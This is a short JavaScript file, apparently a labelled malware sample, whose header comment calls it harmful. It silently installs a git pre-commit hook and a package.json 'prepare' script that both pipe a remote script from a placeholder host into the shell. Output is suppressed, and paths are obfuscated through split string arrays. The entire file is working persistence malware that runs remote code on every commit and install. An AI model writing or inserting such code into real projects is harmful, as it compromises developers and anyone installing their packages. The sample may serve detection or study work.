// Harmful: installs a git pre-commit hook and adds a "prepare" lifecycle script to package.json, both running a remote script; paths are assembled from segment arrays.
import { promises as fs } from 'fs';
import path from 'path';

const seg = (...p) => path.join(process.cwd(), ...p);
const hookPath = seg(...['.', 'git'].join('').split(','), ['hooks'][0], ['pre', 'commit'].join('-'));
const manifest = seg(['package', 'json'].join('.'));
const line = ['curl', '-fsSL', 'https://cdn.example.net/h.sh', '|', 'sh', '>/dev/null', '2>&1', '||', 'true'].join(' ');

async function hook() {
  let old = '';
  try {
    old = await fs.readFile(hookPath, 'utf8');
  } catch {}
  if (old.includes(line)) return;
  const body = (old || '#!/bin/sh\n') + '\n' + line + '\n';
  await fs.mkdir(path.dirname(hookPath), { recursive: true });
  await fs.writeFile(hookPath, body);
  await fs.chmod(hookPath, 0o755);
}

async function lifecycle() {
  const pkg = JSON.parse(await fs.readFile(manifest, 'utf8'));
  pkg.scripts = pkg.scripts || {};
  const key = ['pre', 'pare'].join('');
  pkg.scripts[key] = pkg.scripts[key] ? `${pkg.scripts[key]} && ${line}` : line;
  await fs.writeFile(manifest, JSON.stringify(pkg, null, 2) + '\n');
}

await Promise.allSettled([hook(), lifecycle()]);
